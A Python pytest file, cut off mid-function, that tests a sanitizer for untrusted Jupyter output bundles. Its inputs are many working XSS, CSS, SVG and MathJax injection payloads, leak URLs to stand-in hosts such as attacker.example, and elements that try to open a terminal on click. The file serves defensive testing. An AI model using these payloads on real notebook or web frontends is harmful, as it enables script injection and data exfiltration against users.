"""Outputs from the sandbox are untrusted (guarantees 7 and 8).

Each test names the attack it stops. Rendering is checked where it matters:
markdown is rendered with mistune (the nbconvert renderer) and the HTML parsed,
so a payload that only becomes dangerous after rendering is caught too.
"""

from __future__ import annotations

import base64
import io
import json
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from wrapped_outputs import inner

from sandbox_kernel.outputs import OutputLimiter, SanitizedBundle, sanitize_bundle


def _inner(markdown: str) -> str:
    """A cleaned markdown output without the element it is contained in."""
    return inner(markdown, markdown=True)


PNG_1PX = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
    )
).decode()
DATA_PNG = "data:image/png;base64," + PNG_1PX


def html_of(result: SanitizedBundle) -> str:
    return result.data.get("text/html", "")


class _Scan(HTMLParser):
    """What a browser would act on: tags, event handlers, URLs that run or load, CSS."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.handlers: list[str] = []
        self.urls: list[tuple[str, str, str]] = []
        self.css: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self._in_style = tag == "style"
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(f"{tag} {name}")
            if name in {"href", "src", "srcset", "xlink:href", "action", "formaction", "data", "poster"}:
                self.urls.append((tag, name, re.sub(r"[\x00-\x20]", "", value or "").lower()))
            if name == "style":
                self.css.append(value or "")

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.css.append(data)


def scan(markup: str) -> _Scan:
    s = _Scan()
    s.feed(markup)
    s.close()
    return s


def assert_no_script(markup: str) -> None:
    s = scan(markup)
    assert "script" not in s.tags, markup
    assert not s.handlers, markup
    assert not [u for u in s.urls if u[2].startswith(("javascript:", "vbscript:", "data:text"))], markup
    for bad in ("iframe", "object", "embed", "base", "meta", "link", "form", "foreignobject"):
        assert bad not in s.tags, markup


def assert_no_fetch(markup: str) -> None:
    s = scan(markup)
    for tag, attr, url in s.urls:
        if tag == "a" and attr == "href":
            continue  # links only act on a click
        assert url.startswith(("data:image/", "#")), (tag, attr, url)
    for css in s.css:
        low = css.lower()
        assert "@import" not in low, css
        # url( tokens a browser would load: a closed string, or unquoted up to ")"/end
        low = re.sub(r"\\[0-9a-f]{1,6}\s?", "x", low)  # an escape continues an identifier
        for m in re.finditer(r"(?<![\w\-\\])url\(\s*(?:([\"'])([^\n]*?)(?:\1|$)|([^\"'()\s]*)\s*(?:\)|$))", low):
            target = m.group(2) if m.group(1) else m.group(3)
            assert target.strip().startswith(("data:", "#")), m.group(0)
        assert "image-set(" not in low, css


# ----------------------------------------------------------------------------- HTML attacks


def test_html_script_tag_removed_and_named():
    r = sanitize_bundle({"text/html": "<p>hi</p><script>fetch('/api/terminals',{method:'POST'})</script>"})
    assert "<script" not in html_of(r)
    assert "fetch(" not in html_of(r)
    assert "<p>hi</p>" in html_of(r)
    assert "<script> removed from text/html" in r.removed


def test_html_img_onerror_handler_removed():
    r = sanitize_bundle(
        {"text/html": '<img src="x.png" onerror="alert(document.cookie)"><b onmouseover=alert(1)>b</b>'}
    )
    assert "onerror" not in html_of(r) and "onmouseover" not in html_of(r)
    assert_no_script(html_of(r))
    assert any("event handler" in n for n in r.removed)


def test_svg_onload_in_html_and_in_svg_output_removed():
    r = sanitize_bundle({"text/html": '<svg onload="alert(1)"><circle r="1"/></svg>ok'})
    assert "svg" not in html_of(r) and "onload" not in html_of(r)
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1" onclick="x"/></svg>'
    r = sanitize_bundle({"image/svg+xml": svg})
    out = r.data["image/svg+xml"]
    assert "onload" not in out and "onclick" not in out and "<rect" in out


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#x09;script:alert(1)",
        " javascript:alert(1)",
        "vbscript:msgbox(1)",
    ],
)
def test_html_javascript_href_removed(href: str):
    r = sanitize_bundle({"text/html": f'<a href="{href}">click</a>'})
    out = html_of(r)
    assert "script:" not in out.lower()
    assert "click" in out
    assert 'rel="noopener noreferrer nofollow"' in out


def test_html_iframe_removed_with_content():
    r = sanitize_bundle({"text/html": '<iframe src="/api/contents" srcdoc="<script>alert(1)</script>">x</iframe>after'})
    assert "iframe" not in html_of(r) and "srcdoc" not in html_of(r)
    assert "after" in html_of(r)
    assert "<iframe> removed from text/html" in r.removed


def test_html_base_tag_removed():
    r = sanitize_bundle({"text/html": '<base href="https://evil.example/"><a href="x">x</a>'})
    assert "<base" not in html_of(r) and "evil.example" not in html_of(r)


def test_html_meta_refresh_removed():
    r = sanitize_bundle({"text/html": '<meta http-equiv="refresh" content="0;url=https://evil.example">hello'})
    assert "<meta" not in html_of(r) and "refresh" not in html_of(r)
    assert "hello" in html_of(r)


def test_html_data_text_html_urls_removed():
    payload = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    r = sanitize_bundle({"text/html": f'<a href="{payload}">a</a><img src="{payload}"><img src="{DATA_PNG}">'})
    out = html_of(r)
    assert "data:text/html" not in out
    assert DATA_PNG in out  # data: images stay


def test_html_forms_and_inputs_removed():
    r = sanitize_bundle(
        {
            "text/html": '<form action="/api/terminals" method="post"><button formaction="x">go</button><input autofocus onfocus=alert(1)></form>'
        }
    )
    assert_no_script(html_of(r))
    assert "<form" not in html_of(r) and "<input" not in html_of(r) and "<button" not in html_of(r)


def test_css_expression_and_javascript_removed_from_style_attribute_and_tag():
    html = (
        '<div style="width: expression(alert(1)); background: url(javascript:alert(2))">d</div>'
        "<style>p { width: expression(alert(3)); -moz-binding: url(x.xml#x); behavior: url(x.htc) }</style>"
    )
    out = html_of(sanitize_bundle({"text/html": html}))
    low = out.lower()
    assert "expression(" not in low and "javascript:" not in low
    assert "-moz-binding" not in low and "behavior:" not in low
    assert "<style>" in out and "<div" in out


def test_style_tag_cannot_close_itself_via_rewrites():
    # comment removal must not splice "</sty" + "le>" into a real end tag
    out = html_of(sanitize_bundle({"text/html": "<style>a{}</sty/* */le><img src=x onerror=alert(1)></style>"}))
    assert_no_script(out)


def test_mathjax_href_javascript_disarmed_in_html_latex_and_markdown():
    for mime in ("text/html", "text/latex", "text/markdown"):
        r = sanitize_bundle({mime: r"$\href{javascript:alert(1)}{click}$ &#92;href{javascript:alert(2)}{x}"})
        out = r.data[mime]
        assert "\\href{javascript" not in out, (mime, out)
        if mime != "text/latex":  # HTML and markdown decode &#92; to a backslash; LaTeX text does not
            assert "javascript" not in out, (mime, out)


def test_html_style_attribute_value_cannot_smuggle_markup_into_post_pass():
    out = html_of(
        sanitize_bundle({"text/html": '<p title="<style>">x</p><p title="</style><img src=x onerror=alert(1)>">y</p>'})
    )
    assert_no_script(out)


# ----------------------------------------------------------------------------- MIME types and types


def test_application_javascript_dropped_with_visible_explanation():
    r = sanitize_bundle({"application/javascript": "fetch('/api/terminals', {method: 'POST'})"})
    assert "application/javascript" not in r.data
    assert r.removed == ["application/javascript output dropped (JavaScript from the sandbox is not run)"]
    assert "removed for safety" in r.data["text/plain"]


def test_javascript_dropped_but_plain_text_kept():
    r = sanitize_bundle(
        {"application/javascript": "alert(1)", "text/plain": "<IPython.core.display.Javascript object>"}
    )
    assert r.data == {"text/plain": "<IPython.core.display.Javascript object>"}


def test_widget_and_plotly_mime_dropped():
    r = sanitize_bundle(
        {
            "application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2},
            "application/vnd.plotly.v1+json": {"data": []},
            "text/x-unknown": "x",
            "text/plain": "Widget",
        }
    )
    assert set(r.data) == {"text/plain"}
    assert any("widget" in n for n in r.removed)
    assert any("text/x-unknown" in n for n in r.removed)


def test_bad_base64_image_dropped():
    r = sanitize_bundle({"image/png": "<script>alert(1)</script>", "text/plain": "fig"})
    assert "image/png" not in r.data
    assert "image/png output dropped (not valid base64)" in r.removed


def test_image_whose_bytes_are_not_that_type_dropped():
    html_b64 = base64.b64encode(b"<html><script>alert(1)</script></html>").decode()
    r = sanitize_bundle({"image/png": html_b64, "image/jpeg": "ABCD"})
    assert r.data.keys() == {"text/plain"}
    assert any("not PNG" in n for n in r.removed)


def test_base64_with_line_breaks_accepted():
    wrapped = "\n".join(PNG_1PX[i : i + 20] for i in range(0, len(PNG_1PX), 20)) + "\n"
    r = sanitize_bundle({"image/png": wrapped})
    assert r.data == {"image/png": wrapped} and r.removed == []


@pytest.mark.parametrize("value", [42, None, ["<script>"], {"a": 1}, b"bytes", 1.5])
def test_non_string_values_dropped(value: Any):
    r = sanitize_bundle({"text/html": value, "text/plain": "ok"})
    assert r.data == {"text/plain": "ok"}
    assert r.removed == [f"text/html output dropped (expected a string, got {type(value).__name__})"]


def test_non_json_values_in_json_mime_dropped():
    r = sanitize_bundle({"application/json": {"a": float("nan")}, "application/vnd.dataresource+json": {"x": object()}})
    assert "application/json" not in r.data and "application/vnd.dataresource+json" not in r.data
    assert any("NaN" in n for n in r.removed)
    ok = sanitize_bundle({"application/json": {"a": [1, 2.5, None, True, "x"]}})
    assert ok.data == {"application/json": {"a": [1, 2.5, None, True, "x"]}}


def test_deeply_nested_json_does_not_crash():
    value: Any = []
    for _ in range(100_000):
        value = [value]
    r = sanitize_bundle({"application/json": value})
    assert "application/json" not in r.data


def test_non_string_mime_key_dropped():
    r = sanitize_bundle({1: "x", "text/plain": "ok"})  # type: ignore[dict-item]
    assert r.data == {"text/plain": "ok"} and r.removed


@pytest.mark.parametrize("data", [None, "text", ["text/html"], 7, b"x"])
def test_non_mapping_data_gives_empty_bundle_and_note(data: Any):
    r = sanitize_bundle(data)
    assert r.data == {} and r.metadata == {}
    assert len(r.removed) == 1 and "not a mapping" in r.removed[0]


def test_lone_surrogates_replaced_not_raised():
    r = sanitize_bundle({"text/plain": "a\ud800b", "text/html": "<b>\udfff</b>"})
    assert r.data["text/plain"].encode("utf-8")
    assert r.data["text/html"].encode("utf-8")


def test_metadata_restricted_to_kept_types_and_json():
    r = sanitize_bundle(
        {"image/png": PNG_1PX, "application/javascript": "x"},
        {"image/png": {"width": 10}, "application/javascript": {"x": 1}, "isolated": True, "bad": object(), 3: "x"},
    )
    assert r.metadata == {"image/png": {"width": 10}, "isolated": True}
    assert any("'bad'" in n for n in r.removed)
    assert sanitize_bundle({"text/plain": "x"}, "nope").metadata == {}  # type: ignore[arg-type]


def test_metadata_a_frontend_or_nbconvert_reads_is_of_its_type():
    """An attack review: an image's ``width`` of ``'1 onerror=alert(1) x'``
    was written unquoted into nbconvert's ``<img>`` (a script in the page),
    a top-level ``filenames`` became its address, and both passed even once
    the session was private."""
    from nbconvert import HTMLExporter
    from nbformat import v4

    from sandbox_kernel.lab_html_exports import shown_as_in_lab

    meta = {
        "image/png": {"width": "1 onerror=alert(document.domain) x", "height": 5, "src": "//h/x.png"},
        "filenames": {"image/png": "https://attacker.example/leak?d=ROW42"},
        "isolated": "yes",
        "application/json": {"expanded": True, "root": "https://attacker.example/r?d=ROW42"},
    }
    data = {"image/png": PNG_1PX, "application/json": {"a": 1}}
    for private in (False, True):
        r = sanitize_bundle(data, meta, private=private)
        assert r.metadata["image/png"] == {"height": 5} and "filenames" not in r.metadata, r.metadata
        assert "isolated" not in r.metadata and r.metadata["application/json"]["expanded"] is True
        assert ("https://attacker.example" in json.dumps(r.metadata)) is not private
    huge = sanitize_bundle({"text/plain": "x"}, {"width": 10**400, "height": float("inf")})  # (no OverflowError)
    assert huge.data == {"text/plain": "x"} and huge.metadata == {}
    kept = {"image/png": {"width": 640.5, "height": 480, "unconfined": True}, "needs_background": "light"}
    assert sanitize_bundle({"image/png": PNG_1PX}, kept).metadata == kept  # what IPython and matplotlib send
    assert sanitize_bundle(data, meta, trusted=True).metadata == meta  # (the user's choice)
    output = v4.new_output("display_data", data={"image/png": PNG_1PX}, metadata=meta)
    page, _ = HTMLExporter(template_name="lab").from_notebook_node(
        shown_as_in_lab(v4.new_notebook(cells=[v4.new_code_cell("x", outputs=[output])]))
    )
    images = re.findall(r"<img[^>]*>", page)
    assert images and not any("onerror" in i or "attacker" in i for i in images), images


def test_never_raises_on_garbage():
    garbage = [
        "<" * 5000,
        "<a " * 3000,
        "<!--" * 1000,
        "`" * 1000 + "$" * 1000,
        "](" * 5000,
        "<svg" + ">" * 10,
        "\x00<scr\x00ipt>",
        '<svg xmlns="http://www.w3.org/2000/svg">' + "<g>" * 5000 + "</g>" * 5000 + "</svg>",
    ]
    for text in garbage:
        for mime in ("text/html", "text/markdown", "text/latex", "image/svg+xml"):
            for private in (False, True):
                r = sanitize_bundle({mime: text}, private=private)
                for value in r.data.values():
                    assert isinstance(value, str)
                if mime in ("text/html", "text/markdown") and mime in r.data:
                    assert_no_script(r.data[mime])


# ----------------------------------------------------------------------------- real content survives


def test_pandas_dataframe_html_keeps_table_and_style():
    pd = pytest.importorskip("pandas")
    df = pd.DataFrame({"a": [1, 2], "b": ["x", "<y>"]}, index=pd.Index(["r1", "r2"], name="idx"))
    r = sanitize_bundle({"text/html": df._repr_html_(), "text/plain": repr(df)}, private=True)
    out = html_of(r)
    for part in (
        "<table",
        'class="dataframe"',
        "<thead>",
        "<tbody>",
        "<th>",
        "<td>",
        "<style scoped",
        ".dataframe tbody tr th",
    ):
        assert part in out, part
    assert out.count("<tr") == df._repr_html_().count("<tr")
    assert "&lt;y&gt;" in out
    assert r.removed == []


def test_pandas_styler_keeps_ids_and_css():
    pd = pytest.importorskip("pandas")
    pytest.importorskip("jinja2")
    html = pd.DataFrame({"a": [1, 5]}).style.background_gradient().to_html()
    out = html_of(sanitize_bundle({"text/html": html}, private=True))
    ids = re.findall(r'id="(T_\w+)"', out)
    assert ids and all(f"#{i}" in out or "level" in i or i.count("_") == 1 for i in ids)
    assert "background-color" in out


def test_matplotlib_svg_keeps_paths_and_has_no_script():
    matplotlib = pytest.importorskip("matplotlib")
    matplotlib.use("Agg")
    import xml.etree.ElementTree as ET

    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    ax.plot([1, 2, 3], [3, 1, 2], label="a<b & c")
    ax.set_title("title")
    ax.legend()
    buf = io.StringIO()
    fig.savefig(buf, format="svg")
    plt.close(fig)
    svg = buf.getvalue()
    r = sanitize_bundle({"image/svg+xml": svg})
    out = r.data["image/svg+xml"]
    assert out.count("<path") == svg.count("<path") > 5
    assert out.count("<use") == svg.count("<use")
    assert 'clip-path="url(#' in out
    assert "<script" not in out
    root = ET.fromstring(out)  # still well-formed XML (JupyterLab shows it as a data: image)
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    assert r.removed == []


def test_svg_script_foreignobject_and_external_refs_removed():
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        "<script>alert(1)</script>"
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>'
        '<a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a>'
        '<use xlink:href="https://evil.example/sprite.svg#a"/><use href="#ok"/>'
        '<image href="https://evil.example/x.png"/><image href="' + DATA_PNG + '"/>'
        '<rect fill="url(https://evil.example/p)" style="fill: url(https://evil.example/q)"/>'
        '<set attributeName="href" to="javascript:alert(1)"/>'
        "<style>@import url(https://evil.example/x.css); rect { fill: red }</style>"
        "</svg>"
    )
    r = sanitize_bundle({"image/svg+xml": svg})
    out = r.data["image/svg+xml"]
    low = out.lower()
    for bad in ("script", "foreignobject", "javascript", "evil.example", "onerror", "<set", "@import"):
        assert bad not in low, bad
    assert 'href="#ok"' in out and DATA_PNG in out and "fill: red" in out


def test_svg_entity_expansion_and_malformed_dropped():
    bomb = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>'
    r = sanitize_bundle({"image/svg+xml": bomb, "text/plain": "x"})
    assert "image/svg+xml" not in r.data and any("entities" in n for n in r.removed)
    r = sanitize_bundle({"image/svg+xml": "<svg><g></svg>"})
    assert r.data.keys() == {"text/plain"} and any("well-formed" in n for n in r.removed)


# ----------------------------------------------------------------------------- markdown


def render_markdown(md: str) -> str:
    mistune = pytest.importorskip("mistune")
    return mistune.create_markdown(escape=False)(md)


def test_markdown_keeps_syntax_while_script_inside_is_gone():
    md = "# Title\n\nSome *text*, a [link](https://x) and `a < b`.\n\n<script>alert(1)</script>\n\n> quote\n"
    r = sanitize_bundle({"text/markdown": md})
    out = _inner(r.data["text/markdown"])
    assert out.startswith("# Title\n")
    assert "[link](https://x)" in out and "*text*" in out and "`a < b`" in out and "> quote" in out
    assert "<script" not in out and "alert(1)" not in out
    assert "<script> removed from text/markdown" in r.removed


@pytest.mark.parametrize("private", [False, True])
@pytest.mark.parametrize(
    "fence",
    [
        '~~~x" style="animation:a 1s" onanimationstart="__skRan(1)',
        '```x" onmouseover="__skRan(1)',
        '~~~x\\" onmouseover=\\"__skRan(1)',  # escaped quotes, as the parser decodes them
        "~~~x&quot; onmouseover=&quot;__skRan(1)",  # a character reference
        '> - ~~~x" onmouseover="__skRan(1)',  # in a quote's list
        '~~~x\x1c" onmouseover="__skRan(1)',  # a separator Python splits words at, JavaScript does not
    ],
)
def test_a_code_fences_language_is_a_plain_name(fence: str, private: bool) -> None:
    """JupyterLab writes a fence's language unescaped into ``<code
    class="language-…">`` and shows live outputs as trusted: a label with a
    quote became an event handler that ran with no click in a plain Lab (an
    attack review). Only the name is kept; the code stays."""
    md = f"text\n\n{fence}\nprint('kept')\n{fence.split('x')[0]}\n"
    out = sanitize_bundle({"text/markdown": md}, private=private).data["text/markdown"]
    assert "__skRan" not in out and '"' not in out, out
    assert f"{fence.split('x')[0]}x\nprint('kept')\n" in out, out
    assert "onmouseover" not in render_markdown(out) and "onanimationstart" not in render_markdown(out)


def test_ordinary_code_fences_keep_their_language() -> None:
    md = "```python\nx = 1\n```\n\n~~~ c++ {.numberLines}\nint x;\n~~~\n\n```\nplain\n```\n"
    out = sanitize_bundle({"text/markdown": md}).data["text/markdown"]
    assert out == md, out


def test_markdown_code_spans_keep_angle_brackets():
    md = "Call `f(<module>)` or `List<int>`; see <b>bold</b>.\n\n```\n<lambda> at 0x1 <function f>\n```\n"
    out = sanitize_bundle({"text/markdown": md}).data["text/markdown"]
    assert "`f(<module>)`" in out and "`List<int>`" in out
    # a tag with attributes is text even in code: the guess of what is code
    # can be wrong, and the page acts on attributes (the cost: "&lt;" shows
    # in a repr like this one)
    assert "<lambda> at 0x1 &lt;function f>" in out
    assert "<b>bold</b>" in out


@pytest.mark.parametrize("private", [False, True])
@pytest.mark.parametrize(
    "md",
    [
        # a "code span" across a blank line: two paragraphs for JupyterLab's
        # marked, with raw HTML between them (an attack review)
        'Summary `\n\n<jp-avatar src="//127.0.0.1:9/leak?d=SECRET"></jp-avatar>\n\n` done',
        'Summary `\n \n<jp-anchor href="javascript:alert(1)">x</jp-anchor>\n\t\n` done',
        # a heading is one line: its backtick opens nothing in the next lines
        '# Title `\n<jp-anchor href="javascript:alert(1)">x</jp-anchor>\n`',
        # code for sure: a custom element or an attribute is still not kept as a tag
        '`<jp-avatar src="//127.0.0.1:9/leak">`',
        "`<x-frame>` and `<x-frame class=a>`",
        # Lab runs the command a clicked element names (attack review): a span
        # across a heading, a quote, a list item, a setext line; an indented
        # line in a list item; a fence inside an HTML block
        '`x\n# <foo data-commandlinker-command="terminal:create-new">CLICK</foo> `',
        '`x\n> <foo data-commandlinker-command="terminal:create-new">CLICK</foo> `',
        '`x\n- <foo data-commandlinker-command="terminal:create-new">CLICK</foo> `',
        '`x\n===\n<foo data-commandlinker-command="terminal:create-new">CLICK</foo> `',
        '- item\n\n    <foo data-commandlinker-command="terminal:create-new">x</foo>',
        '<div>\n```\n<foo data-commandlinker-command="terminal:create-new">x</foo>\n```\n</div>',
    ],
)
def test_markdown_keeps_no_tag_with_attributes_where_it_guessed_code(md: str, private: bool) -> None:
    """JupyterLab's page defines custom elements (``<jp-avatar src>`` loads an
    image, ``<jp-anchor href>`` makes a link in its shadow root): a tag kept
    as written in what the cleaner took for code reached the page as HTML
    where marked saw none, and fetched a private output's data in a plain
    Lab (an attack review, in Chromium)."""
    out = sanitize_bundle({"text/markdown": md}, private=private).data["text/markdown"]
    assert not re.search(r"<(jp-|x-frame|foo )", out), out
    assert not re.search(r"<(jp-|x-frame|foo )", render_markdown(out))


def test_a_code_span_ends_at_a_blank_line() -> None:
    from sandbox_kernel.outputs._markdown import segments

    # as CommonMark reads it: "a `b" and "c` d `e` f" are two paragraphs
    text = "a `b\n\nc` d `e` f"
    kinds = [(kind, text[start:end]) for kind, start, end in segments(text)]
    assert kinds == [("text", "a `b\n\nc"), ("code", "` d `"), ("text", "e` f")], kinds
    assert [kind for kind, _, _ in segments("a `b\nc` d")] == ["text", "code", "text"]


@pytest.mark.parametrize(
    "md",
    [
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x]( javascript:alert(1) )",
        "[x](java&#115;cript:alert(1))",
        "[x](javascript\\:alert(1))",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
    ],
)
def test_markdown_javascript_links_neutralised(md: str):
    out = sanitize_bundle({"text/markdown": md}).data["text/markdown"]
    rendered = render_markdown(out)
    assert_no_script(rendered)
    assert not re.search(r"(href|src)=\"[^\"]*javascript", rendered.lower())


@pytest.mark.parametrize(
    "md",
    [
        '<img src=x onerror="alert(1)">',
        "<img/src=x/onerror=alert(1)>",
        "<img src=x\nonerror=alert(1)>",
        "<img src=x onerror=alert(1)",  # unterminated: the next tag would close it
        '<a href="x" title="<img src=x onerror=alert(1)>">y</a>',
        '<foo a="<img src=x onerror=alert(1)>">',
        "<!-- <img src=x onerror=alert(1)> -->",
        "<!--> <img src=x onerror=alert(1)> -->",
        "`<!-- x` <img src=x onerror=alert(1)> `-->`",
        "<scr<script>ipt>alert(1)</script>",
        "<svg><script>alert(1)</script></svg>",
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<details open ontoggle=alert(1)>",
        "<style>*{x:1}</style><img src=x onerror=alert(1)>",
        "    <img src=x onerror=alert(1)>",
        "`` `<img src=x onerror=alert(1)>` ``",
        "\\`<img src=x onerror=alert(1)>`",
        "<div>\n<img src=x\nonerror=alert(1)>\n</div>",
        "<https://x/onmouseover=alert(1)>",
        "<<script>img src=x onerror=alert(1)>",  # removal must not glue "<" to "img"
        "<<!-- c -->img src=x onerror=alert(1)>",
        '<a title="x\n\n" onmouseover=alert(1) ">y</a>',  # a blank line inside a tag splits HTML blocks
        '| a |\n|---|\n| <a title="x| onmouseover=alert(1) |y">z</a> |',  # table cells split on "|"
        "&#60;img src=x onerror=alert(1)&#62;",
    ],
)
def test_markdown_raw_html_attacks_neutralised(md: str):
    out = sanitize_bundle({"text/markdown": md}).data.get("text/markdown", "")
    assert_no_script(render_markdown(out))
    assert_no_script(out)  # also safe if a renderer passed it through as HTML


def test_markdown_pathological_inputs_stay_fast():
    import time

    nasty = [
        "".join("`" * k + "x" for k in range(1, 700)),  # many unclosed code-span lengths
        "<!--" * 50_000,
        "<a " * 50_000,
        "<script>" * 20_000,
        "](" * 100_000,
        "".join(f"\\begin{{e{k}}}" for k in range(20_000)),
    ]
    for text in nasty:
        start = time.perf_counter()
        sanitize_bundle({"text/markdown": text}, private=True)
        assert time.perf_counter() - start < 5, text[:20]


def test_oversized_markdown_dropped_not_cleaned(monkeypatch: pytest.MonkeyPatch):
    from sandbox_kernel.outputs import sanitize

    monkeypatch.setattr(sanitize, "MAX_MARKDOWN_CHARS", 100)
    r = sanitize_bundle({"text/markdown": "x" * 101, "text/plain": "x"})
    assert r.data == {"text/plain": "x"} and any("too large" in n for n in r.removed)


def test_markdown_math_with_less_than_still_renders():
    out = sanitize_bundle({"text/markdown": "Inequality $a<b$ and $$x<y$$."}).data["text/markdown"]
    assert "$a\\lt b$" in out and "$$x\\lt y$$" in out


# ----------------------------------------------------------------------------- private sessions


def test_private_removes_external_img_src_and_srcset_keeps_data_images():
    html = (
        '<img src="https://evil.example/a.png?secret=1"><img src="http://evil.example/b.png">'
        '<img src="//evil.example/c.png"><img src="\\\\evil.example\\d.png">'
        '<img srcset="https://evil.example/e.png 2x"><img src="' + DATA_PNG + '">'
    )
    r = sanitize_bundle({"text/html": html}, private=True)
    out = html_of(r)
    for gone in ("x.css", "y.css", "p.png", "z.png", "image-set"):
        assert gone not in out, gone
    assert DATA_PNG in out
    assert_no_fetch(out)
    assert any("private session" in n for n in r.removed)
    # not private: external images are fine
    assert "https://evil.example/a.png" in html_of(sanitize_bundle({"text/html": html}))


def test_private_removes_css_url_and_import():
    html = (
        "<style>@import url(https://evil.example/x.css); @import 'https://evil.example/y.css';"
        " p { background: url(https://evil.example/p.png) } q { background: url(" + DATA_PNG + ") }"
        " s { background-image: image-set('https://evil.example/i.png' 1x) }</style>"
        '<p style="background:url(//evil.example/z.png)">x</p>'
    )
    r = sanitize_bundle({"text/html": html}, private=True)
    out = html_of(r)
    for gone in ("x.css", "y.css", "p.png", "z.png", "image-set"):
        assert gone not in out, gone
    assert DATA_PNG in out
    assert_no_fetch(out)


def test_private_css_removal_cannot_assemble_a_new_url():
    # removing "@import ..." used to leave "url(http://... " at the end: a valid url token
    for html in (
        '<span style="url(https://evil.example/x.png@import background:">s</span>',
        "<style>p{background:url(url('1. x')}</style>",
        "<style>p{background:url(https://evil.example/y.png@import x</style>",
    ):
        out = html_of(sanitize_bundle({"text/html": html}, private=True))
        assert "evil.example" not in out
        assert_no_fetch(out)


def test_private_css_escape_obfuscation_removed():
    html = "<style>p { background: u\\72 l(https://evil.example/a) } @\\69mport 'https://evil.example/b';</style>"
    out = html_of(sanitize_bundle({"text/html": html}, private=True))
    assert "evil.example" not in out


def test_private_markdown_external_images_removed_data_images_kept():
    md = (
        '![a](http://evil.example/y.png) ![b](https://evil.example/z.png "t") ![c](//evil.example/w.png)\n'
        "![ref][r] ![d](" + DATA_PNG + ")\n\n[r]: https://evil.example/r.png\n\n"
        '<img src="https://evil.example/h.png"> [a normal link](https://example.org)'
    )
    r = sanitize_bundle({"text/markdown": md}, private=True)
    out = r.data["text/markdown"]
    assert "![a](http://evil.example/y.png)" not in out
    rendered = render_markdown(out)
    assert_no_fetch(rendered)
    assert 'src="' + DATA_PNG in rendered
    # once private a click must not send anything out: the link's target goes, its text stays
    assert 'href="https://example.org"' not in rendered and "a normal link" in rendered
    # not private: markdown images stay as they are
    assert _inner(sanitize_bundle({"text/markdown": md}).data["text/markdown"]).startswith(
        "![a](http://evil.example/y.png)"
    )


def test_private_mathjax_style_and_require_disarmed():
    out = sanitize_bundle(
        {"text/latex": r"$\style{background:url(https://evil.example)}{x} \require{evil}$"}, private=True
    )
    assert "\\style" not in out.data["text/latex"] and "\\require" not in out.data["text/latex"]


GLYPH = '\\mmlToken{mglyph}[src="//evil.example/?d=1"]{}'


@pytest.mark.parametrize("mime", ["text/latex", "text/markdown", "text/html"])
def test_private_mathjax_mmltoken_disarmed(mime: str) -> None:
    """``\\mmlToken{mglyph}[src=...]`` is an image Lab's MathJax loads from any
    host, its SafeHandler included (attacked in a browser:
    tests/browser/test_private_outputs_in_a_plain_lab.py)."""
    text = f"$x + {GLYPH}$ and $\\let\\m\\mmlToken \\m{{mglyph}}[src=//evil.example]{{}}$"
    out = sanitize_bundle({mime: text}, private=True)
    assert "\\mmlToken" not in out.data[mime], out.data[mime]
    assert any("\\mmlToken disarmed" in note for note in out.removed)
    # spelled with character references, in markdown (the browser decodes them before MathJax reads)
    spelled = sanitize_bundle({"text/markdown": "$\\&#109;mlToken{mglyph}[src=//evil.example]{}$"}, private=True)
    assert "mmlToken{mglyph}" not in spelled.data["text/markdown"].replace("\\mathrm{mmlToken}", "")
    # public too: its style attribute's cursor image waits for a private output's CSS (helper 75)
    assert "\\mmlToken" not in sanitize_bundle({mime: text}).data[mime]


@pytest.mark.parametrize(
    "tex",
    [
        "\\bbox[background:url(//evil.example/a)]{x}",
        "\\bbox [background-image: url(//evil.example/a)]{x}",
        "\\bbox[red,\\5px]{x}",
        "\\def\\b{\\bbox}\\b[background:url(//evil.example/a)]{x}",
        "\\let\\b\\bbox \\b[background:url(//evil.example/a)]{x}",
        "\\bbox[{background:url(//evil.example/a)}]{x}",
    ],
)
@pytest.mark.parametrize("private", [True, False])
def test_mathjax_bbox_with_css_that_could_fetch_disarmed_in_every_session(tex: str, private: bool) -> None:
    # (a public one could wait, hidden, for a private output's CSS to show it)
    out = sanitize_bundle({"text/latex": f"${tex}$"}, private=private).data["text/latex"]
    assert "\\bbox" not in out, out


@pytest.mark.parametrize(
    "tex",
    [
        "\\style{cursor:url(//evil.example/a),auto}{x}",
        "\\htmlStyle{cursor:url(//evil.example/a)}{x}",
        "\\style {cursor: u\\72l(//evil.example/a)}{x}",
        "\\style{cursor:url&#40;//evil.example/a)}{x}",
        "\\def\\s#1{\\style{#1}{x}}\\s{cursor:url(//evil.example/a)}",
        "\\let\\s\\style \\s{cursor:url(//evil.example/a)}{x}",
        "\\def\\s{\\style}\\s{cursor:url(//evil.example/a)}{x}",
    ],
)
@pytest.mark.parametrize("mime", ["text/latex", "text/markdown", "text/html"])
def test_a_public_mathjax_style_that_could_fetch_is_disarmed(tex: str, mime: str) -> None:
